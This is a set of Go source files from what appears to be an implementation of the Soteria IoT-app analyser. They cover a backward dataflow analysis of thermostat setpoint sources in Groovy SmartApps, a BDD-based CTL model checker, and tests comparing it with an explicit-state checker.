	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() {
    subscribe(location, "mode", h1)
    subscribe(ther, "temperature", h2)
}
def h1(evt) { apply(70) }
def h2(evt) { apply(62) }
def apply(t) {
    ther.setHeatingSetpoint(t)
}
`)
	args := a.NumericActionArgs()
	if len(args) != 1 {
		t.Fatalf("args = %d", len(args))
	}
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	vals := res.ConstantValues()
	if len(vals) != 2 || vals[0] != 62 || vals[1] != 70 {
		t.Errorf("values = %v, want [62 70]", vals)
	}
}

// TestParameterThroughLocalThroughCall: constants flow through a local
// in the caller and the parameter of the callee.
func TestParameterThroughLocalThroughCall(t *testing.T) {
	a := analysisFor(t, "t", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "bias", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def target = bias + 2
    apply(target)
}
def apply(t) {
    ther.setHeatingSetpoint(t)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 1 {
		t.Fatalf("sources = %+v", res.Sources)
	}
	s := res.Sources[0]
	if s.Kind != UserInput || s.Handle != "bias" || s.Offset != 2 {
		t.Errorf("source = %+v", s)
	}
}
