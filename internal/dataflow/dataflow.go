// Package dataflow implements Soteria's backward dependence analysis
// (paper §4.2.1, Algorithm 1): a worklist algorithm that, starting from
// the identifiers used as arguments of device action calls that set a
// numerical-valued attribute, walks definitions backward through the
// ICFG — inter-procedurally with depth-one call-site sensitivity — to
// the set of possible sources (developer-defined constants, user
// inputs, device state reads, persistent state variables).
//
// The produced sources drive property abstraction: each concrete
// source value becomes one state of the numeric attribute, plus one
// "other" state (§4.2.1's thermostat example: 45 temperature values
// collapse to {== 68°F, ≠ 68°F}).
//
// Infeasible dependence paths are pruned with the custom path-condition
// checker (internal/pathcond), mirroring the paper's use of path- and
// context-sensitivity instead of an SMT solver.
package dataflow

import (
	"fmt"
	"sort"
	"strings"

	"github.com/soteria-analysis/soteria/internal/cfg"
	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/pathcond"
)

// SourceKind classifies where a numeric attribute value originates.
type SourceKind int

// Source kinds.
const (
	// Constant is a developer-defined literal (possibly adjusted by
	// simple arithmetic along the dependence chain).
	Constant SourceKind = iota
	// UserInput is an install-time user input permission.
	UserInput
	// DeviceRead is a device attribute read (currentValue and
	// friends).
	DeviceRead
	// StateVar is a persistent state/atomicState field.
	StateVar
	// Unknown covers expressions outside the tracked fragment.
	Unknown
)

func (k SourceKind) String() string {
	switch k {
	case Constant:
		return "developer-defined"
	case UserInput:
		return "user-defined"
	case DeviceRead:
		return "device-state"
	case StateVar:
		return "state-variable"
	}
	return "unknown"
}

// Source is one possible origin of a numeric attribute value.
type Source struct {
	Kind   SourceKind
	Value  float64 // meaningful when Kind == Constant
	Handle string  // user-input handle or device handle
	Attr   string  // device attribute (Kind == DeviceRead)
	Field  string  // state field (Kind == StateVar)
	// Offset is the net arithmetic adjustment accumulated along the
	// dependence chain (footnote 3's `x = y + 10` pattern).
	Offset float64
	// Expr is the defining expression, for diagnostics.
	Expr groovy.Expr
}

// Label renders the source for transition labels and reports.
func (s Source) Label() string {
	switch s.Kind {
	case Constant:
		return fmt.Sprintf("%g", s.Value)
	case UserInput:
		if s.Offset != 0 {
			return fmt.Sprintf("%s%+g", s.Handle, s.Offset)
		}
		return s.Handle
	case DeviceRead:
		return s.Handle + "." + s.Attr
	case StateVar:
		return "state." + s.Field
	}
	return "?"
}

// Dep records one dependence edge (n: id) -> (n': id') discovered by
// Algorithm 1, mirroring the paper's dep relation.
type Dep struct {
	UseNode int    // node where id is used
	UseID   string // identifier used
	DefNode int    // node of the definition
	DefID   string // identifier on the right-hand side
}

// Result is the output of Algorithm 1 for one action-call argument.
type Result struct {
	Sources []Source
	Deps    []Dep
	// Pruned counts dependence paths discarded as infeasible by the
	// path-condition checker.
	Pruned int
}

// ConstantValues returns the sorted distinct constant values among the
// sources (these become the abstracted states).
func (r *Result) ConstantValues() []float64 {
	set := map[float64]bool{}
	for _, s := range r.Sources {
		if s.Kind == Constant {
			set[s.Value] = true
		}
	}
	out := make([]float64, 0, len(set))
	for v := range set {
		out = append(out, v)
	}
	sort.Float64s(out)
	return out
}

// Analysis runs Algorithm 1 over an app's ICFG.
type Analysis struct {
	app  *ir.App
	icfg *cfg.ICFG
	// callers maps callee -> caller methods within the app (for
	// parameter back-propagation with depth-one call-site
	// sensitivity).
	callers map[string][]string
}

// New prepares an analysis over the app's ICFG.
func New(app *ir.App, icfg *cfg.ICFG) *Analysis {
	a := &Analysis{app: app, icfg: icfg, callers: map[string][]string{}}
	for _, m := range app.File.Methods {
		groovy.Walk(m, func(n groovy.Node) bool {
			if c, ok := n.(*groovy.CallExpr); ok && c.Recv == nil && c.Name != "" {
				if app.File.MethodByName(c.Name) != nil {
					a.addCaller(c.Name, m.Name)
				}
			}
			return true
		})
	}
	return a
}

func (a *Analysis) addCaller(callee, caller string) {
	for _, c := range a.callers[callee] {
		if c == caller {
			return
		}
	}
	a.callers[callee] = append(a.callers[callee], caller)
}

// item is a worklist entry: identifier id used at node n of method m,
// with the arithmetic offset accumulated so far.
type item struct {
	method string
	node   *cfg.Node
	id     string
	offset float64
}

func (it item) key() string {
	return fmt.Sprintf("%s:%d:%s:%g", it.method, it.node.ID, it.id, it.offset)
}

// NumericSources runs Algorithm 1: it computes the set of possible
// sources of expression arg evaluated at node n of method (the
// argument of a device action call that sets a numeric attribute).
func (a *Analysis) NumericSources(method string, n *cfg.Node, arg groovy.Expr) *Result {
	res := &Result{}
	done := map[string]bool{}
	var worklist []item

	// Seed: classify the argument expression itself; identifiers go on
	// the worklist (Algorithm 1 line 2-4).
	a.classify(method, n, arg, 0, res, &worklist)

	for len(worklist) > 0 {
		it := worklist[len(worklist)-1]
		worklist = worklist[:len(worklist)-1]
		if done[it.key()] {
			continue
		}
		done[it.key()] = true
		a.traceDefs(it, res, &worklist)
	}
	return res
}

// classify resolves a right-hand-side expression into sources or new
// worklist items.
func (a *Analysis) classify(method string, n *cfg.Node, e groovy.Expr, offset float64, res *Result, wl *[]item) {
	switch x := e.(type) {
	case *groovy.NumberLit:
		res.Sources = append(res.Sources, Source{Kind: Constant, Value: x.Value + offset, Expr: e})
		return
	case *groovy.Ident:
		if p, ok := a.app.PermissionByHandle(x.Name); ok && p.Kind == ir.UserInput {
			res.Sources = append(res.Sources, Source{Kind: UserInput, Handle: x.Name, Offset: offset, Expr: e})
			return
		}
		*wl = append(*wl, item{method: method, node: n, id: x.Name, offset: offset})
		return
	case *groovy.BinaryExpr:
		// Footnote 3: simple arithmetic id ± const propagates the
		// offset through the identifier.
		if x.Op == groovy.PLUS || x.Op == groovy.MINUS {
			if c, ok := x.R.(*groovy.NumberLit); ok {
				d := c.Value
				if x.Op == groovy.MINUS {
					d = -d
				}
				a.classify(method, n, x.L, offset+d, res, wl)
				return
			}
			if c, ok := x.L.(*groovy.NumberLit); ok && x.Op == groovy.PLUS {
				a.classify(method, n, x.R, offset+c.Value, res, wl)
				return
			}
		}
	case *groovy.TernaryExpr:
		a.classify(method, n, x.Then, offset, res, wl)
		a.classify(method, n, x.Else, offset, res, wl)
		return
	case *groovy.ElvisExpr:
		a.classify(method, n, x.Value, offset, res, wl)
		a.classify(method, n, x.Default, offset, res, wl)
		return
	case *groovy.CallExpr:
		// Device attribute read?
		if h, attr, ok := ir.DeviceRead(a.app, e); ok {
			res.Sources = append(res.Sources, Source{Kind: DeviceRead, Handle: h, Attr: attr, Offset: offset, Expr: e})
			return
		}
		// Call of an app method: trace its return expressions
		// (treating parameter passing and returns as inter-procedural
		// definitions).
		if x.Recv == nil && a.app.File.MethodByName(x.Name) != nil {
			for _, ret := range a.icfg.ReturnNodes(x.Name) {
				rs := ret.Stmt.(*groovy.ReturnStmt)
				if rs.X != nil {
					a.classify(x.Name, ret, rs.X, offset, res, wl)
				}
			}
			return
		}
	case *groovy.PropExpr:
		if h, attr, ok := ir.DeviceRead(a.app, e); ok {
			res.Sources = append(res.Sources, Source{Kind: DeviceRead, Handle: h, Attr: attr, Offset: offset, Expr: e})
			return
		}
		if f, ok := ir.StateFieldRef(e); ok {
			res.Sources = append(res.Sources, Source{Kind: StateVar, Field: f, Offset: offset, Expr: e})
			return
		}
		// Conversion wrappers around trackable expressions.
		if inner := unwrap(e); inner != e {
			a.classify(method, n, inner, offset, res, wl)
			return
		}
	}
	res.Sources = append(res.Sources, Source{Kind: Unknown, Expr: e})
}

func unwrap(e groovy.Expr) groovy.Expr {
	if pe, ok := e.(*groovy.PropExpr); ok {
		switch pe.Name {
		case "integerValue", "floatValue", "doubleValue", "value":
			return pe.Recv
		}
	}
	return e
}

// traceDefs finds the reaching definitions of it.id at it.node by a
// backward DFS over the CFG, pruning paths whose accumulated branch
// conditions are infeasible, then classifies each definition's RHS
// (Algorithm 1 lines 5-12).
func (a *Analysis) traceDefs(it item, res *Result, wl *[]item) {
	g, ok := a.icfg.Graph(it.method)
	if !ok {
		res.Sources = append(res.Sources, Source{Kind: Unknown})
		return
	}
	type walkState struct {
		node *cfg.Node
		cond pathcond.Cond
	}
	// Visited states are keyed by node plus the canonical (deduped)
	// condition, so loops terminate (the atom set saturates) without
	// blocking alternative feasible paths through shared nodes.
	visited := map[string]bool{}
	key := func(ws walkState) string {
		return fmt.Sprintf("%d|%s", ws.node.ID, ws.cond.Canonical())
	}
	reachedEntry := false
	seenDefs := map[int]bool{}
	var stack []walkState
	for _, p := range it.node.Preds {
		stack = append(stack, walkState{node: p, cond: condOnEdge(p, it.node)})
	}
	if len(it.node.Preds) == 0 && it.node == g.Entry {
		reachedEntry = true
	}
	const maxSteps = 200000
	for steps := 0; len(stack) > 0 && steps < maxSteps; steps++ {
		ws := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if !pathcond.Feasible(ws.cond) {
			res.Pruned++
			continue
		}
		if k := key(ws); visited[k] {
			continue
		} else {
			visited[k] = true
		}

		if def, rhs := defines(ws.node, it.id); def {
			// Accept the definition only if the path from the method
			// entry down to it is consistent with the conditions
			// accumulated between the definition and the use — the
			// paper's infeasible-path pruning over the full
			// initialization-to-action path.
			if !a.feasibleFromEntry(g, ws.node, ws.cond) {
				res.Pruned++
				continue
			}
			if !seenDefs[ws.node.ID] {
				seenDefs[ws.node.ID] = true
				res.Deps = append(res.Deps, Dep{
					UseNode: it.node.ID, UseID: it.id,
					DefNode: ws.node.ID, DefID: rhsIdent(rhs),
				})
				if rhs != nil {
					a.classify(it.method, ws.node, rhs, it.offset, res, wl)
				} else {
					res.Sources = append(res.Sources, Source{Kind: Unknown})
				}
			}
			continue // definition kills the backward walk on this path
		}
		if ws.node == g.Entry {
			reachedEntry = true
			continue
		}
		for _, p := range ws.node.Preds {
			stack = append(stack, walkState{node: p, cond: ws.cond.And(condOnEdge(p, ws.node))})
		}
	}

	if reachedEntry {
		a.resolveAtEntry(it, res, wl)
	}
}

// feasibleFromEntry reports whether some path from the method entry to
// node is feasible under the already-accumulated condition cond.
func (a *Analysis) feasibleFromEntry(g *cfg.Graph, node *cfg.Node, cond pathcond.Cond) bool {
	type walkState struct {
		node *cfg.Node
		cond pathcond.Cond
	}
	visited := map[string]bool{}
	stack := []walkState{{node: node, cond: cond}}
	const maxSteps = 100000
	for steps := 0; len(stack) > 0 && steps < maxSteps; steps++ {
		ws := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		if !pathcond.Feasible(ws.cond) {
			continue
		}
		if ws.node == g.Entry {
			return true
		}
		k := fmt.Sprintf("%d|%s", ws.node.ID, ws.cond.Canonical())
		if visited[k] {
			continue
		}
		visited[k] = true
		for _, p := range ws.node.Preds {
			stack = append(stack, walkState{node: p, cond: ws.cond.And(condOnEdge(p, ws.node))})
		}
	}
	return false
}

// resolveAtEntry handles an identifier with no local definition: it is
// a method parameter (bound at call sites — depth-one call-site
// sensitivity), a permission handle, or unknown.
func (a *Analysis) resolveAtEntry(it item, res *Result, wl *[]item) {
	m := a.app.File.MethodByName(it.method)
	if m != nil {
		for pi, param := range m.Params {
			if param != it.id {
				continue
			}
			// Back-propagate through every call site of this method.
			for _, caller := range a.callers[it.method] {
				for _, site := range a.icfg.CallSites(caller, it.method) {
					arg := callArg(site, it.method, pi)
					if arg != nil {
						a.classify(caller, site, arg, it.offset, res, wl)
					}
				}
			}
			return
		}
	}
	if p, ok := a.app.PermissionByHandle(it.id); ok {
		if p.Kind == ir.UserInput {
			res.Sources = append(res.Sources, Source{Kind: UserInput, Handle: it.id, Offset: it.offset})
		} else {
			res.Sources = append(res.Sources, Source{Kind: DeviceRead, Handle: it.id, Offset: it.offset})
		}
		return
	}
	res.Sources = append(res.Sources, Source{Kind: Unknown})
}

// callArg extracts the pi-th actual argument of the call to callee
// inside the statement at site.
func callArg(site *cfg.Node, callee string, pi int) groovy.Expr {
	var arg groovy.Expr
	groovy.Walk(site.Stmt, func(n groovy.Node) bool {
		c, ok := n.(*groovy.CallExpr)
		if !ok || c.Recv != nil || c.Name != callee {
			return true
		}
		if pi < len(c.Args) {
			arg = c.Args[pi]
		}
		return false
	})
	return arg
}

// defines reports whether node n assigns identifier id and returns the
// right-hand side.
func defines(n *cfg.Node, id string) (bool, groovy.Expr) {
	if n.Kind != cfg.Statement || n.Stmt == nil {
		return false, nil
	}
	switch s := n.Stmt.(type) {
	case *groovy.DeclStmt:
		if s.Name == id {
			return true, s.Init
		}
	case *groovy.AssignStmt:
		if lhs, ok := s.LHS.(*groovy.Ident); ok && lhs.Name == id {
			if s.Op == groovy.ASSIGN {
				return true, s.RHS
			}
			// x += e: treat as unknown-preserving definition.
			return true, nil
		}
	case *groovy.IncDecStmt:
		if x, ok := s.X.(*groovy.Ident); ok && x.Name == id {
			return true, nil
		}
	}
	return false, nil
}

func rhsIdent(e groovy.Expr) string {
	if id, ok := e.(*groovy.Ident); ok {
		return id.Name
	}
	return ""
}

// condOnEdge returns the path condition contributed by traversing the
// edge pred -> node (non-trivial only when pred is a Branch).
func condOnEdge(pred, node *cfg.Node) pathcond.Cond {
	if pred.Kind != cfg.Branch {
		return pathcond.True()
	}
	for _, e := range pred.Succs {
		if e.To == node && e.Cond != nil {
			return CondFromExpr(e.Cond, e.Negated)
		}
	}
	return pathcond.True()
}

// CondFromExpr converts a Groovy boolean expression into a pathcond
// conjunction. Comparisons of a simple variable expression against a
// literal become atoms; conjunctions distribute; everything else
// becomes an opaque term. When negated is set the whole expression is
// logically negated (conjunctions of atoms negate soundly only for
// single atoms; compound negations fall back to opaque, which is the
// safe over-approximation).
func CondFromExpr(e groovy.Expr, negated bool) pathcond.Cond {
	switch x := e.(type) {
	case *groovy.BinaryExpr:
		switch x.Op {
		case groovy.ANDAND:
			if !negated {
				return CondFromExpr(x.L, false).And(CondFromExpr(x.R, false))
			}
		case groovy.OROR:
			if negated { // ¬(a ∨ b) = ¬a ∧ ¬b
				return CondFromExpr(x.L, true).And(CondFromExpr(x.R, true))
			}
		case groovy.EQ, groovy.NEQ, groovy.LT, groovy.LEQ, groovy.GT, groovy.GEQ:
			if atom, ok := atomFrom(x); ok {
				if negated {
					atom = atom.Negated()
				}
				return pathcond.True().WithAtom(atom)
			}
		}
	case *groovy.UnaryExpr:
		if x.Op == groovy.NOT {
			return CondFromExpr(x.X, !negated)
		}
	}
	return pathcond.True().WithOpaque(groovy.Format(e), negated)
}

func atomFrom(x *groovy.BinaryExpr) (pathcond.Atom, bool) {
	v, lit, swapped, ok := splitCmp(x)
	if !ok {
		return pathcond.Atom{}, false
	}
	op := cmpOp(x.Op)
	if swapped {
		op = swapOp(op)
	}
	a := pathcond.Atom{Var: canonicalVar(v)}
	a.Op = op
	switch l := lit.(type) {
	case *groovy.NumberLit:
		a.IsNum = true
		a.Num = l.Value
	case *groovy.StringLit:
		a.Str = l.Value
	case *groovy.GStringLit:
		s, static := l.StaticText()
		if !static {
			return pathcond.Atom{}, false
		}
		a.Str = s
	case *groovy.BoolLit:
		a.Str = fmt.Sprintf("%t", l.Value)
	default:
		return pathcond.Atom{}, false
	}
	return a, true
}

// splitCmp separates a comparison into its variable side and literal
// side; swapped is true when the literal is on the left.
func splitCmp(x *groovy.BinaryExpr) (v, lit groovy.Expr, swapped, ok bool) {
	if isLiteral(x.R) && !isLiteral(x.L) {
		return x.L, x.R, false, true
	}
	if isLiteral(x.L) && !isLiteral(x.R) {
		return x.R, x.L, true, true
	}
	return nil, nil, false, false
}

func isLiteral(e groovy.Expr) bool {
	switch l := e.(type) {
	case *groovy.NumberLit, *groovy.StringLit, *groovy.BoolLit:
		return true
	case *groovy.GStringLit:
		_, ok := l.StaticText()
		return ok
	}
	return false
}

func cmpOp(k groovy.TokKind) pathcond.Op {
	switch k {
	case groovy.EQ:
		return pathcond.EQ
	case groovy.NEQ:
		return pathcond.NE
	case groovy.LT:
		return pathcond.LT
	case groovy.LEQ:
		return pathcond.LE
	case groovy.GT:
		return pathcond.GT
	case groovy.GEQ:
		return pathcond.GE
	}
	return pathcond.EQ
}

func swapOp(o pathcond.Op) pathcond.Op {
	switch o {
	case pathcond.LT:
		return pathcond.GT
	case pathcond.LE:
		return pathcond.GE
	case pathcond.GT:
		return pathcond.LT
	case pathcond.GE:
		return pathcond.LE
	}
	return o
}

// canonicalVar renders the variable side of an atom deterministically.
func canonicalVar(e groovy.Expr) string {
	return strings.TrimSpace(groovy.Format(e))
}
