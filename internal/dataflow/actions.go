package dataflow

import (
	"sort"

	"github.com/soteria-analysis/soteria/internal/capability"
	"github.com/soteria-analysis/soteria/internal/cfg"
	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
)

// ActionArg is a device action call site whose argument sets a
// numerical-valued attribute (Algorithm 1's starting points).
type ActionArg struct {
	Method string
	Node   *cfg.Node
	Perm   *ir.Permission
	Attr   string // attribute set by the command (Command.ArgAttr)
	Arg    groovy.Expr
}

// NumericActionArgs scans every method for device action calls that
// set a numeric attribute from an argument (setHeatingSetpoint,
// setLevel, ...).
func (a *Analysis) NumericActionArgs() []ActionArg {
	var out []ActionArg
	var methods []string
	for name := range a.icfg.Graphs {
		methods = append(methods, name)
	}
	sort.Strings(methods)
	for _, name := range methods {
		g := a.icfg.Graphs[name]
		for _, n := range g.Nodes {
			if n.Kind != cfg.Statement || n.Stmt == nil {
				continue
			}
			node := n
			groovy.Walk(n.Stmt, func(nd groovy.Node) bool {
				call, ok := nd.(*groovy.CallExpr)
				if !ok {
					return true
				}
				perm, cmdName, _, isAct := ir.DeviceAction(a.app, call)
				if !isAct || perm == nil || perm.Cap == nil {
					return true
				}
				cmd, _ := perm.Cap.Command(cmdName)
				if cmd == nil || cmd.ArgAttr == "" || len(call.Args) == 0 {
					return true
				}
				attr, ok2 := perm.Cap.Attribute(cmd.ArgAttr)
				if !ok2 || attr.Kind != capability.Numeric {
					return true
				}
				out = append(out, ActionArg{
					Method: name, Node: node, Perm: perm,
					Attr: cmd.ArgAttr, Arg: call.Args[0],
				})
				return true
			})
		}
	}
	return out
}

// AttributeSources runs Algorithm 1 for every numeric action argument
// and merges the results per device attribute, keyed
// "handle.attribute". These are exactly the values property
// abstraction turns into model states.
func (a *Analysis) AttributeSources() map[string]*Result {
	out := map[string]*Result{}
	for _, aa := range a.NumericActionArgs() {
		key := aa.Perm.Handle + "." + aa.Attr
		r := a.NumericSources(aa.Method, aa.Node, aa.Arg)
		if prev, ok := out[key]; ok {
			prev.Sources = append(prev.Sources, r.Sources...)
			prev.Deps = append(prev.Deps, r.Deps...)
			prev.Pruned += r.Pruned
		} else {
			out[key] = r
		}
	}
	return out
}
