// Package symbolic is the BDD-based CTL model-checking engine — the
// analogue of NuSMV's BDD engine (paper §5). States are binary-encoded
// with interleaved current/next variables; the transition relation and
// proposition sets are BDDs; CTL operators are symbolic fixpoints
// using the relational product for preimages.
//
// The engine is written against the bdd.Kernel interface so the same
// encoding and fixpoints can run over the open-addressed Manager (the
// default) or the retained map-based LegacyManager — that is how the
// -bdd-bench sweep measures old vs new kernels on identical workloads.
// The variable-set cube for next-state quantification and the
// current→next shift map are interned once at construction, so the
// preimage loop performs no per-iteration map allocation.
package symbolic

import (
	"github.com/soteria-analysis/soteria/internal/bdd"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/kripke"
)

// Engine holds the symbolic encoding of a Kripke structure.
type Engine struct {
	K     *kripke.Structure
	m     bdd.Kernel
	bits  int
	trans bdd.Ref
	init  bdd.Ref
	// curToNext / nextVars are the interned renaming and
	// quantification handles used by the preimage loop.
	curToNext bdd.Shift
	nextVars  bdd.VarSet
	// stateEnc caches the current-variable encoding of each state.
	stateEnc []bdd.Ref
	props    map[string]bdd.Ref
	// dom caches the BDD of valid state encodings (lazily built): the
	// formula evaluator consults it once per operator.
	dom    bdd.Ref
	hasDom bool
	b      *guard.Budget
}

// New encodes k symbolically. Current-state bit i is BDD variable 2i,
// next-state bit i is 2i+1 (interleaved ordering keeps the transition
// relation small).
func New(k *kripke.Structure) *Engine {
	return NewBudget(k, nil)
}

// NewBudget is New under a resource budget: BDD node allocation is
// charged against MaxBDDNodes and the encoding and fixpoint loops
// cooperatively check the wall-clock deadline. A nil budget disables
// all checks.
func NewBudget(k *kripke.Structure, b *guard.Budget) *Engine {
	return NewWithKernel(k, b, func(nvars int) bdd.Kernel { return bdd.New(nvars) })
}

// NewWithKernel is NewBudget over a caller-chosen BDD kernel; newKernel
// receives the variable count (2 × state bits). The benchmarks use it
// to run the engine over bdd.NewLegacy for old-vs-new comparisons.
func NewWithKernel(k *kripke.Structure, b *guard.Budget, newKernel func(nvars int) bdd.Kernel) *Engine {
	bits := 1
	for (1 << bits) < k.N {
		bits++
	}
	e := &Engine{
		K: k, bits: bits, m: newKernel(2 * bits),
		props: map[string]bdd.Ref{},
		b:     b,
	}
	e.m.SetBudget(b)
	curToNext := make(map[int]int, bits)
	nextVars := make(map[int]bool, bits)
	for i := 0; i < bits; i++ {
		curToNext[2*i] = 2*i + 1
		nextVars[2*i+1] = true
	}
	e.curToNext = e.m.InternShift(curToNext)
	e.nextVars = e.m.InternVarSet(nextVars)
	e.stateEnc = make([]bdd.Ref, k.N)
	for s := 0; s < k.N; s++ {
		e.stateEnc[s] = e.encode(s, false)
	}
	// Transition relation: OR over edges of cur(s) ∧ next(t).
	e.trans = bdd.False
	for s := 0; s < k.N; s++ {
		for _, t := range k.Succs[s] {
			e.trans = e.m.Or(e.trans, e.m.And(e.stateEnc[s], e.encode(t, true)))
		}
	}
	e.init = bdd.False
	for _, s := range k.Init {
		e.init = e.m.Or(e.init, e.stateEnc[s])
	}
	return e
}

// encode returns the minterm of state s over current (next=false) or
// next (next=true) variables.
func (e *Engine) encode(s int, next bool) bdd.Ref {
	r := bdd.True
	for i := 0; i < e.bits; i++ {
		v := 2 * i
		if next {
			v++
		}
		if s&(1<<i) != 0 {
			r = e.m.And(r, e.m.Var(v))
		} else {
			r = e.m.And(r, e.m.NVar(v))
		}
	}
	return r
}

// propSet returns the BDD of states labeled with p.
func (e *Engine) propSet(p string) bdd.Ref {
	if r, ok := e.props[p]; ok {
		return r
	}
	r := bdd.False
	for s := 0; s < e.K.N; s++ {
		if e.K.HasProp(s, p) {
			r = e.m.Or(r, e.stateEnc[s])
		}
	}
	e.props[p] = r
	return r
}

// domain is the BDD of valid state encodings (indices < N), built once
// per engine.
func (e *Engine) domain() bdd.Ref {
	if e.hasDom {
		return e.dom
	}
	r := bdd.False
	for s := 0; s < e.K.N; s++ {
		r = e.m.Or(r, e.stateEnc[s])
	}
	e.dom, e.hasDom = r, true
	return r
}

// preimage computes EX(set): states with a successor in set.
func (e *Engine) preimage(set bdd.Ref) bdd.Ref {
	next := e.m.RenameShift(set, e.curToNext)
	return e.m.AndExistsSet(e.trans, next, e.nextVars)
}

// Result mirrors modelcheck.Result for the symbolic engine.
type Result struct {
	Formula ctl.Formula
	Holds   bool
	// Sat reports per-state satisfaction, decoded from the BDD.
	Sat []bool
}

// Check evaluates a CTL formula symbolically.
func (e *Engine) Check(f ctl.Formula) *Result {
	set := e.eval(f)
	res := &Result{Formula: f, Sat: make([]bool, e.K.N)}
	holds := e.m.Implies(e.init, set) == bdd.True
	res.Holds = holds
	for s := 0; s < e.K.N; s++ {
		res.Sat[s] = e.m.And(e.stateEnc[s], set) != bdd.False
	}
	return res
}

func (e *Engine) eval(f ctl.Formula) bdd.Ref {
	dom := e.domain()
	switch x := f.(type) {
	case ctl.TrueF:
		return dom
	case ctl.FalseF:
		return bdd.False
	case ctl.Prop:
		return e.propSet(x.Name)
	case ctl.Not:
		return e.m.And(dom, e.m.Not(e.eval(x.X)))
	case ctl.And:
		return e.m.And(e.eval(x.L), e.eval(x.R))
	case ctl.Or:
		return e.m.Or(e.eval(x.L), e.eval(x.R))
	case ctl.Implies:
		return e.m.And(dom, e.m.Implies(e.eval(x.L), e.eval(x.R)))
	case ctl.EX:
		return e.preimage(e.eval(x.X))
	case ctl.AX:
		return e.m.And(dom, e.m.Not(e.preimage(e.m.And(dom, e.m.Not(e.eval(x.X))))))
	case ctl.EF:
		return e.lfpEU(dom, e.eval(x.X))
	case ctl.AF:
		return e.m.And(dom, e.m.Not(e.gfpEG(e.m.And(dom, e.m.Not(e.eval(x.X))))))
	case ctl.EG:
		return e.gfpEG(e.eval(x.X))
	case ctl.AG:
		return e.m.And(dom, e.m.Not(e.lfpEU(dom, e.m.And(dom, e.m.Not(e.eval(x.X))))))
	case ctl.EU:
		return e.lfpEU(e.eval(x.A), e.eval(x.B))
	case ctl.AU:
		na := e.m.And(dom, e.m.Not(e.eval(x.A)))
		nb := e.m.And(dom, e.m.Not(e.eval(x.B)))
		eu := e.lfpEU(nb, e.m.And(na, nb))
		eg := e.gfpEG(nb)
		return e.m.And(dom, e.m.Not(e.m.Or(eu, eg)))
	}
	return bdd.False
}

// lfpEU computes E[a U b] as the least fixpoint Z = b ∨ (a ∧ EX Z).
func (e *Engine) lfpEU(a, b bdd.Ref) bdd.Ref {
	z := b
	for {
		e.b.Check("symbolic")
		nz := e.m.Or(b, e.m.And(a, e.preimage(z)))
		if nz == z {
			return z
		}
		z = nz
	}
}

// gfpEG computes EG a as the greatest fixpoint Z = a ∧ EX Z.
func (e *Engine) gfpEG(a bdd.Ref) bdd.Ref {
	z := a
	for {
		e.b.Check("symbolic")
		nz := e.m.And(a, e.preimage(z))
		if nz == z {
			return z
		}
		z = nz
	}
}

// NodeCount exposes the BDD manager size for benchmarks.
func (e *Engine) NodeCount() int { return e.m.Size() }

// KernelStats exposes the kernel's table counters (unique-table load,
// computed-table hit rates) for the -bdd-bench sweep.
func (e *Engine) KernelStats() bdd.Stats { return e.m.Stats() }
