package symbolic

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/kripke"
	"github.com/soteria-analysis/soteria/internal/modelcheck"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

func TestAgainstExplicitOnSmallStructure(t *testing.T) {
	k := kripke.New(4)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 0, "")
	k.AddEdge(2, 3, "")
	k.AddEdge(3, 3, "")
	k.Labels[3]["goal"] = true
	k.Labels[0]["a"] = true
	k.Labels[1]["a"] = true
	k.Labels[2]["a"] = true

	e := New(k)
	for _, src := range []string{
		`EF "goal"`, `AF "goal"`, `AG "a"`, `EG "a"`,
		`E["a" U "goal"]`, `A["a" U "goal"]`, `EX "a"`, `AX "a"`,
		`AG ("a" | "goal")`, `!EF ("a" & "goal")`,
	} {
		f := ctl.MustParse(src)
		exp := modelcheck.Check(k, f)
		sym := e.Check(f)
		for s := 0; s < k.N; s++ {
			if exp.Sat[s] != sym.Sat[s] {
				t.Errorf("%s at state %d: explicit=%t symbolic=%t", src, s, exp.Sat[s], sym.Sat[s])
			}
		}
		if exp.Holds != sym.Holds {
			t.Errorf("%s: Holds explicit=%t symbolic=%t", src, exp.Holds, sym.Holds)
		}
	}
}

// TestRandomStructuresAgree cross-checks the two engines on random
// graphs — the strongest correctness evidence for both.
func TestRandomStructuresAgree(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	formulas := []ctl.Formula{
		ctl.MustParse(`AG ("p" -> AF "q")`),
		ctl.MustParse(`EF ("p" & "q")`),
		ctl.MustParse(`AG (EF "q")`),
		ctl.MustParse(`E[!"q" U "p"]`),
		ctl.MustParse(`A[true U "q"]`),
		ctl.MustParse(`AX (EX "p")`),
		ctl.MustParse(`EG !"q"`),
	}
	for trial := 0; trial < 25; trial++ {
		n := 2 + rng.Intn(14)
		k := kripke.New(n)
		for s := 0; s < n; s++ {
			// 1-3 successors each; ensure totality.
			m := 1 + rng.Intn(3)
			for j := 0; j < m; j++ {
				k.AddEdge(s, rng.Intn(n), "")
			}
			if rng.Intn(2) == 0 {
				k.Labels[s]["p"] = true
			}
			if rng.Intn(3) == 0 {
				k.Labels[s]["q"] = true
			}
		}
		e := New(k)
		for _, f := range formulas {
			exp := modelcheck.Check(k, f)
			sym := e.Check(f)
			for s := 0; s < n; s++ {
				if exp.Sat[s] != sym.Sat[s] {
					t.Fatalf("trial %d, %s, state %d: explicit=%t symbolic=%t",
						trial, f, s, exp.Sat[s], sym.Sat[s])
				}
			}
		}
	}
}

